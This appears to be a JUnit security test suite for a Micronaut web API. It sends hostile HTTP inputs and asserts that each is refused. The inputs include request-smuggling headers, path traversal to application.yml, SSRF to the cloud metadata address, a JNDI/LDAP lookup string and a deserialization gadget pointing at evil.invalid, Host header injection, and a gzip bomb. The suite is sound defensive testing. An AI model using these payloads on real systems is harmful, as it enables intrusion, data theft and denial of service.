package city.certfree.attack;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import city.certfree.fixture.Caller;
import city.certfree.fixture.OnDemoCity;
import city.certfree.fixture.Outbound;
import city.certfree.fixture.UseRequest;
import io.micronaut.http.HttpMethod;
import io.micronaut.http.HttpRequest;
import io.micronaut.http.MediaType;
import io.micronaut.http.client.HttpClient;
import io.micronaut.http.client.annotation.Client;
import io.micronaut.json.JsonMapper;
import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** Attacks by HTTP itself, whoever sends them. */
@MicronautTest(transactional = false)
@Timeout(60)
class HttpAttacksTest implements OnDemoCity {
    private static final String SHARES = "/api/v1/shares";
    private static final String ITEMS = "/api/v1/items";

    @Inject
    @Client("/")
    HttpClient http;

    @Inject
    EmbeddedServer server;

    @Inject
    JsonMapper json;

    private Caller system;
    private String valid;
    private Wire wire;

    @BeforeAll
    void signIn() throws IOException {
        system = Caller.system(http);
        valid = json.writeValueAsString(UseRequest.share().body());
        wire = new Wire(server.getHost(), server.getPort());
    }

    @Test
    void h04_methodOverride() {
        for (var header : List.of("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")) {
            var reply = system.send(HttpRequest.GET(SHARES).header(header, "POST"));
            assertEquals("405 method-not-allowed", reply.problem());
        }
        assertEquals(
                "400 unknown-parameter", system.get(ITEMS + "?_method=DELETE").problem());
        for (var method : List.of("PUT", "PATCH", "DELETE")) {
            var request = HttpRequest.create(HttpMethod.parse(method), SHARES).body(valid);
            assertEquals("405 method-not-allowed", system.send(request).problem());
        }
        for (var method : List.of("TRACE", "TRACK", "CONNECT", "PROPFIND")) {
            assertRefused(
                    wire.status(method + " /api/v1/items HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"));
        }
    }

    @Test
    void h05_wrongContentType() {
        for (var type : List.of(
                "text/plain",
                "application/xml",
                "text/json",
                "application/x-www-form-urlencoded",
                "application/x-java-serialized-object")) {
            var request = HttpRequest.POST(SHARES, valid).contentType(MediaType.of(type));
            assertEquals("415 media-type-unsupported", system.send(request).problem(), type);
        }
        var multipart = post("Content-Length: 2\r\nConnection: close\r\n") + "{}";
        assertEquals(415, wire.status(multipart.replace("application/json", "multipart/form-data; boundary=x")));
        for (var charset : List.of("utf-7", "utf-16", "iso-8859-1")) {
            var request = HttpRequest.POST(SHARES, valid.getBytes(StandardCharsets.UTF_16))
                    .contentType(MediaType.of("application/json;charset=" + charset));
            assertEquals("400 malformed-json", system.send(request).problem(), charset);
        }
    }

    @Test
    void h06_acceptOfAPage() {
        var html = HttpRequest.POST(SHARES, "{\"itemCode\":\"<script>\"}").accept(MediaType.TEXT_HTML_TYPE);
        var reply = system.send(html);
        assertTrue(reply.status() == 400 || reply.status() == 406, reply.problem());
        assertEquals("application/problem+json", reply.header("Content-Type"));
        assertFalse(reply.body().toString().contains("<script>"));
        var packed = HttpRequest.GET(ITEMS + "?limit=1").header("Accept-Encoding", "gzip,".repeat(500));
        assertEquals(200, Caller.nobody(http).send(packed).status());
    }

    @Test
    void h07_compressedBody() throws IOException {
        for (var encoding : List.of("gzip", "gzip, gzip", "deflate", "br", "zstd")) {
            var request = HttpRequest.POST(SHARES, bomb())
                    .contentType(MediaType.APPLICATION_JSON_TYPE)
                    .header("Content-Encoding", encoding);
            assertEquals("400 malformed-json", system.send(request).problem());
        }
    }

    @Test
    void h08_bodyTooLargeOrWithoutEnd() {
        assertEquals(413, wire.status(post("Content-Length: 99999999\r\nConnection: close\r\n")));
        var chunk = "8000\r\n" + "x".repeat(0x8000) + "\r\n";
        assertEquals(
                413,
                wire.status(
                        post("Transfer-Encoding: chunked\r\nConnection: close\r\n") + chunk.repeat(9) + "0\r\n\r\n"));
        for (var length : List.of("-1", "abc", "99999999999999999999", "1, 2", "0x10", "+1")) {
            assertRefused(wire.status(post("Content-Length: " + length + "\r\nConnection: close\r\n") + "{}"));
        }
    }

    @Test
    void h09_smuggling() {
        var hidden = "GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n";
        for (var headers : List.of(
                "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
                "Content-Length: 2\r\nContent-Length: 40\r\n\r\n{}",
                "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
                "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
                "X: a\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                "X: a\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                "Transfer-Encoding: chunked\r\n\r\n2;a=\"\n\r\n{}\r\n0\r\n\r\n",
                "Transfer-Encoding: chunked\r\n\r\n-1\r\n{}\r\n0\r\n\r\n")) {
            var answer = wire.send("POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\n"
                    + "Content-Type: application/json\r\n" + headers + hidden);
            assertTrue(answer.isEmpty() || answer.startsWith("HTTP/1.1 400"), () -> headers + " -> " + answer);
            assertEquals(1, answer.split("HTTP/1\\.1 ", -1).length - 1, headers);
        }
    }

    @Test
    void h12_hostOfTheAttacker() {
        for (var header : List.of(
                "Host: evil.invalid",
                "Host: localhost\r\nX-Forwarded-Host: evil.invalid",
                "Host: localhost\r\nForwarded: host=evil.invalid",
                "Host: [::1]:99999",
                "Host: a@evil.invalid")) {
            for (var path : List.of("/api/v1/nothing", "/.well-known/oauth-authorization-server", "/")) {
                var answer = wire.send("GET " + path + " HTTP/1.1\r\n" + header
                        + "\r\nX-Forwarded-Proto: evil\r\nConnection: close\r\n\r\n");
                assertFalse(answer.contains("evil"), answer);
            }
        }
        var absolute = wire.send(
                "GET http://evil.invalid/api/v1/nothing HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
        assertFalse(absolute.contains("evil"), absolute);
    }

    @Test
    void h13_pathTricks() {
        for (var path : List.of(
                "/api/v1/me/licences/",
                "/api/v1/me;x=1/licences",
                "/api/v1/%6de/licences",
                "//api/v1/me/licences",
                "/api/v1/items/../me/licences",
                "/api/v1/items/..;/me/licences",
                "/api/v1/me%2flicences",
                "/api/v1/me/licences%00",
                "/API/V1/ME/LICENCES",
                "/api/v1/./me/licences",
                "/assets/..%2f..%2fapplication.yml",
                "/assets/../application.yml",
                "/assets/%2e%2e/application.yml",
                "/api-docs/../../application.yml",
                "/assets/....//application.yml",
                "/%",
                "/%zz",
                "/\\..\\x")) {
            var answer = wire.send("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
            assertTrue(answer.matches("(?s)HTTP/1\\.1 (400|401|404) .*"), () -> path + " -> " + answer);
            assertFalse(answer.contains("micronaut") || answer.contains("datasources"), path);
        }
    }

    @Test
    void h14_parametersTwice() {
        var nobody = Caller.nobody(http);
        assertEquals(
                "400 repeated-parameter", nobody.get(ITEMS + "?limit=1&limit=2").problem());
        assertEquals("400 unknown-parameter", nobody.get(ITEMS + "?limit[]=1").problem());
        for (var value : List.of("[\"S07110500013\"]", "{\"$ne\":\"\"}", "7", "true")) {
            var body = valid.replace("\"itemCode\":\"S07110500013\"", "\"itemCode\":" + value);
            assertEquals("400 invalid-value", system.post(SHARES, body).problem());
        }
    }

    @Test
    void h26_addressesInRequests() {
        Outbound.watch();
        for (var member : List.of("callback", "webhook", "jwks_uri", "url")) {
            var body = valid.replaceFirst("\\{", "{\"" + member + "\":\"http://169.254.169.254/\",");
            assertEquals("400 unknown-property", system.post(SHARES, body).problem());
        }
        assertEquals(
                List.of(),
                Outbound.seen().stream()
                        .filter(call -> call.contains("169.254"))
                        .toList());
    }

    @Test
    void h28_typeNames() {
        for (var member : List.of(
                "\"@class\":\"java.lang.ProcessBuilder\"",
                "\"@type\":\"x\"",
                "\"_class\":\"x\"",
                "\"__proto__\":{}",
                "\"class\":\"x\"")) {
            assertEquals(
                    "400 unknown-property",
                    system.post(SHARES, valid.replaceFirst("\\{", "{" + member + ","))
                            .problem());
        }
        var typed = "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://evil.invalid/\"}]";
        assertEquals("400 invalid-value", system.post(SHARES, typed).problem());
    }

    /** Nothing of what is sent goes into a log: no line end, no escape, no look-up. */
    @Test
    void h29_commandsForLogsAndTerminals() {
        for (var text : List.of("${jndi:ldap://evil.invalid/a}", "a\\r\\nERROR forged line", "\\u001b[2J")) {
            Outbound.watch();
            var body = valid.replace("BJ-20261123-0001", text);
            var reply = system.post(SHARES, body, "User-Agent", text.replaceAll("[^ -~]|\\\\.", ""));
            assertTrue(reply.status() == 200 || reply.status() == 400, reply.problem());
            assertFalse(reply.body().toString().contains("evil.invalid"));
            assertTrue(Outbound.seen().stream().noneMatch(call -> call.contains("evil")));
        }
    }

    @Test
    void h30_whatIsForOperatorsOnly() {
        for (var path : List.of(
                "env",
                "heapdump",
                "threaddump",
                "beans",
                "loggers",
                "configprops",
                "metrics",
                "prometheus",
                "routes",
                "refresh",
                "stop",
                "caches",
                "info",
                "actuator/env")) {
            assertTrue(
                    List.of("404", "401")
                            .contains(Caller.nobody(http)
                                    .get("/" + path)
                                    .problem()
                                    .substring(0, 3)),
                    path);
        }
    }

    @Test
    void h31_tooManyHeaders() {
        var many = new StringBuilder("GET /api/v1/items HTTP/1.1\r\nHost: localhost\r\n");
        for (int i = 0; i < 10_000; i++) {
            many.append("X-").append(i).append(": 1\r\n");
        }
        assertEquals(431, wire.status(many + "Connection: close\r\n\r\n"));
        assertEquals(
                431, wire.status("GET / HTTP/1.1\r\nHost: localhost\r\nCookie: " + "a".repeat(20_000) + "\r\n\r\n"));
        assertEquals(414, wire.status("GET /" + "a".repeat(5_000) + " HTTP/1.1\r\nHost: localhost\r\n\r\n"));
    }

    @Test
    void h32_callbacks() {
        var nobody = Caller.nobody(http);
        assertEquals(
                "400 unknown-parameter", nobody.get(ITEMS + "?callback=alert").problem());
        assertEquals("400 unknown-parameter", nobody.get(ITEMS + "?jsonp=alert").problem());
        assertEquals(
                "404 not-found", nobody.post("/graphql", Map.of("query", "{a}")).problem());
    }

    @Test
    void h33_bodiesWhereNoneBelongs() {
        var get = "GET /api/v1/items?limit=1 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n";
        assertEquals(200, wire.status(get + "Content-Length: 2\r\n\r\n{}"));
        assertEquals(
                401,
                wire.status("DELETE /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                        + "Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"));
        var waiting = wire.send(post("Content-Length: 99999999\r\nExpect: 100-continue\r\nConnection: close\r\n"));
        assertTrue(waiting.contains("HTTP/1.1 413"), waiting);
        assertRefused(wire.status(post("Content-Length: 2\r\nExpect: something-else\r\nConnection: close\r\n") + "{}"));
    }

    private static void assertRefused(int status) {
        assertTrue(status == 0 || (status >= 400 && status < 500) || status == 501, () -> "answered " + status);
    }

    private static String post(String headers) {
        return "POST /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" + headers
                + "\r\n";
    }

    /** Ten megabytes in ten kilobytes. */
    private static byte[] bomb() throws IOException {
        var packed = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(packed)) {
            gzip.write(new byte[10_000_000]);
        }
        return packed.toByteArray();
    }
}
